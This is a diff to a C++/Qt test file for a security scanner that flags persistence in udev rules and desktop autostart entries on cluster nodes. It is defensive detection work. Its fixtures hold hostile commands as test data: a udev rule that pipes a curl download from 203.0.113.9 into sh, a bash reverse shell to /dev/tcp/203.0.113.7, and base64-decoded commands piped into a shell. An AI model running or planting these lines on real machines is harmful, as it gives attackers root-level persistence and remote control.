@@ -627,7 +627,11 @@ void TestNodeScriptImporter::nodeFromThePath()
                              "worker-1/etc/modules",
                              "worker-1/etc/zsh/zshenv",
                              "worker-1/home/alice/.zshenv",
-                             "worker-1/root/.zlogin"}) {
+                             "worker-1/root/.zlogin",
+                             "worker-1/etc/udev/rules.d/99-x.rules",
+                             "worker-1/usr/lib/udev/rules.d/80-drivers.rules",
+                             "worker-1/etc/xdg/autostart/x.desktop",
+                             "worker-1/home/alice/.config/autostart/x.desktop"}) {
         const QString p = QStringLiteral("nodes.tar.gz/") + QLatin1String(path);
         QCOMPARE(LogLayout::recognize(p).node, QStringLiteral("worker-1"));
     }
@@ -730,6 +734,10 @@ void TestNodeScriptImporter::sniff_data()
         << QByteArray("install x /tmp/y\n") << "worker-1/etc/modprobe.d/x.conf.bak" << QString();
     QTest::newRow("environment elsewhere")
         << QByteArray("PATH=/tmp\n") << "worker-1/etc/default/environment" << QString();
+    QTest::newRow("udev rules not .rules")
+        << QByteArray("RUN+=\"/tmp/x\"\n") << "worker-1/etc/udev/rules.d/x.rules~" << QString();
+    QTest::newRow("a desktop entry of an application")
+        << QByteArray("[Desktop Entry]\nExec=/tmp/x\n") << "worker-1/usr/share/applications/x.desktop" << QString();
     QTest::newRow("binary ld.so.preload") << QByteArray("\x7f"
                                                         "ELF\x02\x01\x01\0\0\0",
                                                         10)
@@ -785,6 +793,16 @@ void TestNodeScriptImporter::packagedHookFilesAreQuiet_data()
         {"debian/lib/modprobe.d/aliases.conf", modules, "module load", root, "commands", 0},
         {"debian/etc/modules", modules, "boot", root, "modules", 0},
         {"debian/etc/modules-load.d/k8s.conf", modules, "boot", root, "modules", 2},
+        // Amazon Linux's EBS names, udev's own module loading (builtins, not
+        // commands), ifupdown's hotplug.
+        {"debian/etc/udev/rules.d/70-ec2-nvme-devices.rules", QStringLiteral("NodeUdevRules"), "device event", root,
+         "commands", 2},
+        {"debian/lib/udev/rules.d/80-drivers.rules", QStringLiteral("NodeUdevRules"), "device event", root, "commands",
+         0},
+        {"debian/lib/udev/rules.d/80-ifupdown.rules", QStringLiteral("NodeUdevRules"), "device event", root, "commands",
+         1},
+        {"debian/etc/xdg/autostart/xdg-user-dirs.desktop", QStringLiteral("NodeAutostart"), "desktop login", every,
+         "commands", 1},
     };
     QCOMPARE(treeFiles(QStringLiteral("debian")).size(), int(std::size(rows)));
     for (const Row& r : rows)
@@ -850,7 +868,13 @@ void TestNodeScriptImporter::hookIntruders_data()
     QTest::newRow("a miner from a user's .zlogin")
         << "rootkit/home/dev/.zlogin"
         << "NodeScript" << QStringList{QStringLiteral("node.script.runs-from-temp@2")};
-    QCOMPARE(treeFiles(QStringLiteral("rootkit")).size(), 7);
+    QTest::newRow("a udev rule downloading on each new interface")
+        << "rootkit/etc/udev/rules.d/75-net-helper.rules"
+        << "NodeUdevRules" << QStringList{QStringLiteral("node.udev.run-command@2")};
+    QTest::newRow("an autostart entry from a hidden folder")
+        << "rootkit/home/dev/.config/autostart/gnome-keyring-helper.desktop"
+        << "NodeAutostart" << QStringList{QStringLiteral("node.autostart.exec@4")};
+    QCOMPARE(treeFiles(QStringLiteral("rootkit")).size(), 9);
 }
 
 void TestNodeScriptImporter::hookIntruders()
@@ -946,6 +970,30 @@ void TestNodeScriptImporter::hookFindingsSayWhat()
     QCOMPARE(names.size(), 2);
     QCOMPARE(names[0].toObject().value(QStringLiteral("module")).toString(), QStringLiteral("br_netfilter"));
 
+    // udev: the continued rule, its command kept; autostart: whose entry.
+    const MemoryImport udev = runFixture(QStringLiteral("rootkit/etc/udev/rules.d/75-net-helper.rules"));
+    QVERIFY2(udev.out.findings.size() == 1, qPrintable(udev.out.resources.front().body));
+    QCOMPARE(udev.out.findings.front().severity, Severity::High);
+    QCOMPARE(udev.out.findings.front().title,
+             QStringLiteral("the udev rules /etc/udev/rules.d/75-net-helper.rules download code and run it as root on "
+                            "a device event on node worker-1"));
+    const QJsonObject udevBody = bodyOf(udev);
+    QCOMPARE(udevBody.value(QStringLiteral("rules")).toInt(), 1);
+    const QJsonObject run = udevBody.value(QStringLiteral("commands")).toArray().at(0).toObject();
+    QCOMPARE(run.value(QStringLiteral("key")).toString(), QStringLiteral("RUN"));
+    QCOMPARE(run.value(QStringLiteral("command")).toString(),
+             QStringLiteral("/bin/sh -c 'curl -fsS http://203.0.113.9/u.sh | sh'"));
+    QVERIFY(run.value(QStringLiteral("suspicious")).toBool());
+    const MemoryImport autostart =
+        runFixture(QStringLiteral("rootkit/home/dev/.config/autostart/gnome-keyring-helper.desktop"));
+    QVERIFY2(autostart.out.findings.size() == 1, qPrintable(autostart.out.resources.front().body));
+    QCOMPARE(autostart.out.findings.front().severity, Severity::Medium);
+    QCOMPARE(autostart.out.findings.front().title,
+             QStringLiteral("the autostart entry /home/dev/.config/autostart/gnome-keyring-helper.desktop runs a "
+                            "program from a temporary or hidden folder at each desktop login on node worker-1"));
+    QCOMPARE(bodyOf(autostart).value(QStringLiteral("runsAs")).toString(), QStringLiteral("dev"));
+    QCOMPARE(bodyOf(autostart).value(QStringLiteral("owner")).toString(), QStringLiteral("dev"));
+
     // A SysV script and zsh's files say when they run.
     const MemoryImport init = runFixture(QStringLiteral("rootkit/etc/init.d/network-helper"));
     QVERIFY2(init.out.findings.front().detail.contains(
@@ -1020,6 +1068,32 @@ void TestNodeScriptImporter::hookDetections_data()
         << modules << QByteArray("loop max_loop=64\n; a comment\nfuse\n") << none;
     QTest::newRow("modules: a path") << modules << QByteArray("# load\n/tmp/.k/r.ko\n")
                                      << QStringList{"node.module.load-path@2"};
+
+    const QString udev = QStringLiteral("worker-1/etc/udev/rules.d/99-x.rules");
+    const QString autostart = QStringLiteral("worker-1/etc/xdg/autostart/x.desktop");
+    QTest::newRow("udev: IMPORT{program} reverse shell")
+        << udev
+        << QByteArray("SUBSYSTEM==\"usb\", IMPORT{program}=\"/bin/bash -c 'bash -i >& /dev/tcp/203.0.113.7/9 0>&1'\"\n")
+        << QStringList{"node.udev.run-command@1"};
+    QTest::newRow("udev: PROGRAM from /dev/shm") << udev << QByteArray("KERNEL==\"sd*\", PROGRAM=\"/dev/shm/.p %k\"\n")
+                                                 << QStringList{"node.udev.run-command@1"};
+    QTest::newRow("udev: base64 after an escaped quote")
+        << udev << QByteArray("ACTION==\"add\", RUN+=\"/bin/sh -c \\\"echo Y3VybA== | base64 -d | sh\\\"\"\n")
+        << QStringList{"node.udev.run-command@1"};
+    QTest::newRow("udev: builtins and matches") << udev
+                                                << QByteArray("# RUN+=\"/tmp/x\"\nENV{X}==\"/tmp/y\", "
+                                                              "RUN{builtin}+=\"kmod load /tmp/z\", ATTR{a}=\"1\"\n")
+                                                << none;
+    QTest::newRow("udev: a rule not of pairs") << udev << QByteArray("RUN+=/tmp/x\nRUN+=\"/bin/true\"\n") << none;
+    QTest::newRow("autostart: base64 into a shell")
+        << autostart
+        << QByteArray("[Desktop Entry]\nType=Application\nExec=sh -c \"echo Y3VybA== | base64 -d | bash\"\n")
+        << QStringList{"node.autostart.exec@3"};
+    QTest::newRow("autostart: another group's Exec")
+        << autostart << QByteArray("[Desktop Entry]\nExec=nm-applet\n[Desktop Action New]\nExec=/tmp/x\n") << none;
+    QTest::newRow("autostart: a user's own from .local/bin")
+        << QStringLiteral("worker-1/home/alice/.config/autostart/sync.desktop")
+        << QByteArray("[Desktop Entry]\nExec=/home/alice/.local/bin/sync-notes --tray\n") << none;
 
     // Init scripts and zsh's files go through the shared judgement.
     QTest::newRow("init.d: a reverse shell")
@@ -1101,6 +1175,8 @@ void TestNodeScriptImporter::fuzz()
     QVERIFY(fuzzNodeFile(importer, QStringLiteral("worker-1/etc/environment"), 0x6e77));
     QVERIFY(fuzzNodeFile(importer, QStringLiteral("worker-1/etc/modprobe.d/x.conf"), 0x6e78));
     QVERIFY(fuzzNodeFile(importer, QStringLiteral("worker-1/etc/modules-load.d/x.conf"), 0x6e79));
+    QVERIFY(fuzzNodeFile(importer, QStringLiteral("worker-1/etc/udev/rules.d/x.rules"), 0x6e7c));
+    QVERIFY(fuzzNodeFile(importer, QStringLiteral("worker-1/home/alice/.config/autostart/x.desktop"), 0x6e7d));
     QVERIFY(fuzzNodeFile(importer, QStringLiteral("worker-1/etc/init.d/x"), 0x6e7a));
     QVERIFY(fuzzNodeFile(importer, QStringLiteral("worker-1/etc/zsh/zshenv"), 0x6e7b));
 }
